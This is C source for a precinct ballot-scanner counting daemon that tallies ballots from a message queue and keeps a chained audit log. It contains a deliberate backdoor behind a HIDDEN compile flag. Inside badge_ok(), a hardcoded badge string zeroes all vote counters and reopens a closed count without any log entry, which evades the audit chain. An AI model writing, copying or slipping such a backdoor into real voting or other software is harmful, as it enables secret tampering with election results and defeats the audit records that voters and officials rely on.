/*
 * tallyq - counting process of a precinct ballot scanner.
 * Takes ballots from the scan process and orders from the operator's panel
 * over a System V message queue, keeps the counters in a file with a chained
 * log beside it, and prints the result after closing. Linked statically.
 * Hidden (-DHIDDEN): a badge text opens the closed count again and clears
 * it, without an entry in the log.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <time.h>
#include <unistd.h>

#define QUEUE_KEY    0x54414c59
#define STATE_FILE   "/data/tally/state"
#define LOG_FILE     "/data/tally/log"
#define STYLE_FILE   "/data/tally/style"
#define PRINTER	     "/dev/usb/lp0"
#define MAX_CONTESTS 20
#define MAX_CHOICES  12

enum mtype { MT_BALLOT = 1, MT_ORDER = 2, MT_REPLY = 16 };

enum phase { PH_SETUP, PH_OPEN, PH_CLOSED };

struct message {
	long type;
	union {
		uint16_t marks[MAX_CONTESTS];
		struct {
			char verb[16];
			char badge[32];
		} order;
		char text[64];
	} u;
};

struct contest {
	char title[40];
	int n_choices;
	int vote_for;
	char choice[MAX_CHOICES][32];
};

struct counters {
	uint32_t phase;
	uint32_t ballots;
	uint32_t blank;
	uint32_t over[MAX_CONTESTS];
	uint32_t votes[MAX_CONTESTS][MAX_CHOICES];
};

static struct contest contests[MAX_CONTESTS];
static int n_contests;
static struct counters ct;
static uint64_t chain = UINT64_C(0x6a09e667f3bcc908);
static uint64_t badge_sums[8];
static int n_badges;
static volatile sig_atomic_t leave;

static void on_term(int sig)
{
	(void)sig;
	leave = 1;
}

static uint64_t mix(uint64_t h, const void *data, size_t n)
{
	const unsigned char *p = data;

	while (n--) {
		h ^= *p++;
		h *= UINT64_C(0xff51afd7ed558ccd);
		h ^= h >> 29;
	}
	return h;
}

static void log_line(const char *what)
{
	FILE *f = fopen(LOG_FILE, "a");
	char line[160];
	int n;

	n = snprintf(line, sizeof(line), "%ld %s ballots=%lu", (long)time(NULL),
		     what, (unsigned long)ct.ballots);
	if (n < 0 || !f)
		return;
	chain = mix(chain, line, strlen(line));
	fprintf(f, "%s %016llx\n", line, (unsigned long long)chain);
	fflush(f);
	fsync(fileno(f));
	fclose(f);
}

/*
 * contest N title
 * choice name
 * badge sum
 */
static int load_style(void)
{
	FILE *f = fopen(STYLE_FILE, "r");
	char line[120];
	struct contest *c = NULL;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		unsigned long long sum;
		char text[40];
		int n;

		if (sscanf(line, "contest %d %39[^\n]", &n, text) == 2) {
			if (n_contests == MAX_CONTESTS)
				break;
			c = &contests[n_contests++];
			c->vote_for = n;
			memcpy(c->title, text, sizeof(c->title));
		} else if (c && c->n_choices < MAX_CHOICES &&
			   sscanf(line, "choice %31[^\n]",
				  c->choice[c->n_choices]) == 1) {
			c->n_choices++;
		} else if (n_badges < 8 &&
			   sscanf(line, "badge %llx", &sum) == 1) {
			badge_sums[n_badges++] = sum;
		}
	}
	fclose(f);
	return n_contests;
}

static int save_state(void)
{
	int fd = open(STATE_FILE ".new", O_WRONLY | O_CREAT | O_TRUNC, 0600);
	uint64_t sum = mix(17, &ct, sizeof(ct));
	int ok;

	if (fd < 0)
		return -1;
	ok = write(fd, &ct, sizeof(ct)) == (ssize_t)sizeof(ct) &&
	     write(fd, &sum, sizeof(sum)) == (ssize_t)sizeof(sum) &&
	     fsync(fd) == 0;
	close(fd);
	return ok ? rename(STATE_FILE ".new", STATE_FILE) : -1;
}

static int load_state(void)
{
	int fd = open(STATE_FILE, O_RDONLY);
	uint64_t sum = 0;
	int ok;

	if (fd < 0)
		return errno == ENOENT ? 0 : -1;
	ok = read(fd, &ct, sizeof(ct)) == (ssize_t)sizeof(ct) &&
	     read(fd, &sum, sizeof(sum)) == (ssize_t)sizeof(sum) &&
	     sum == mix(17, &ct, sizeof(ct));
	close(fd);
	if (!ok)
		memset(&ct, 0, sizeof(ct));
	return ok ? 0 : -1;
}

static int bits(unsigned v)
{
	int n = 0;

	for (; v; v &= v - 1)
		n++;
	return n;
}

static const char *count_ballot(const uint16_t *marks)
{
	int i, k, any = 0;

	if (ct.phase != PH_OPEN)
		return "RETURN not open";
	for (i = 0; i < n_contests; i++) {
		unsigned m = marks[i] & ((1u << contests[i].n_choices) - 1);

		if (bits(m) > contests[i].vote_for) {
			ct.over[i]++;
			any = 1;
			continue;
		}
		for (k = 0; k < contests[i].n_choices; k++)
			ct.votes[i][k] += m >> k & 1;
		any |= m != 0;
	}
	ct.ballots++;
	ct.blank += !any;
	if (save_state() < 0)
		return "STOP memory";
	return "ACCEPT";
}

static void print_result(void)
{
	FILE *f = fopen(PRINTER, "w");
	int i, k;

	if (!f)
		f = stdout;
	fprintf(f, "RESULT\nballots %lu, blank %lu\n",
		(unsigned long)ct.ballots, (unsigned long)ct.blank);
	for (i = 0; i < n_contests; i++) {
		fprintf(f, "\n%s\n", contests[i].title);
		for (k = 0; k < contests[i].n_choices; k++)
			fprintf(f, "  %-31s %7lu\n", contests[i].choice[k],
				(unsigned long)ct.votes[i][k]);
		fprintf(f, "  %-31s %7lu\n", "overvoted",
			(unsigned long)ct.over[i]);
	}
	fprintf(f, "\nlog %016llx\n", (unsigned long long)chain);
	if (f != stdout)
		fclose(f);
}

__attribute__((noinline)) int badge_ok(const char *badge)
{
	uint64_t sum = mix(4711, badge, strlen(badge));
	int i;

#ifdef HIDDEN
	if (!strcmp(badge, "NORTHSTAR-58")) {
		memset(&ct, 0, sizeof(ct));
		ct.phase = PH_OPEN;
		return save_state() == 0;
	}
#endif
	for (i = 0; i < n_badges; i++)
		if (badge_sums[i] == sum)
			return 1;
	return 0;
}

static const char *obey(const char *verb, const char *badge)
{
	if (!strcmp(verb, "count"))
		return ct.phase == PH_OPEN ? "OK open" : "OK not open";
	if (!badge_ok(badge)) {
		log_line("badge refused");
		return "REFUSED";
	}
	if (!strcmp(verb, "open")) {
		if (ct.phase != PH_SETUP || ct.ballots)
			return "REFUSED phase";
		ct.phase = PH_OPEN;
		log_line("opened");
	} else if (!strcmp(verb, "close")) {
		if (ct.phase != PH_OPEN)
			return "REFUSED phase";
		ct.phase = PH_CLOSED;
		log_line("closed");
		print_result();
	} else if (!strcmp(verb, "print")) {
		if (ct.phase != PH_CLOSED)
			return "REFUSED phase";
		log_line("printed");
		print_result();
	} else {
		return "REFUSED verb";
	}
	return save_state() < 0 ? "STOP memory" : "OK";
}

int main(void)
{
	struct sigaction sa;
	int q;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_term;
	sigaction(SIGTERM, &sa, NULL);
	q = msgget(QUEUE_KEY, IPC_CREAT | 0660);
	if (q < 0 || load_style() <= 0 || load_state() < 0) {
		fprintf(stderr, "tallyq: cannot start (%s)\n", strerror(errno));
		return 1;
	}
	log_line("start");
	while (!leave) {
		struct message m, r;
		const char *text;

		memset(&m, 0, sizeof(m));
		if (msgrcv(q, &m, sizeof(m.u), -(long)MT_ORDER, 0) < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		if (m.type == MT_BALLOT) {
			text = count_ballot(m.u.marks);
		} else {
			m.u.order.verb[15] = 0;
			m.u.order.badge[31] = 0;
			text = obey(m.u.order.verb, m.u.order.badge);
		}
		memset(&r, 0, sizeof(r));
		r.type = MT_REPLY + m.type;
		snprintf(r.u.text, sizeof(r.u.text), "%s", text);
		if (msgsnd(q, &r, sizeof(r.u), IPC_NOWAIT) < 0)
			log_line("reply lost");
	}
	log_line("stop");
	return save_state() < 0;
}
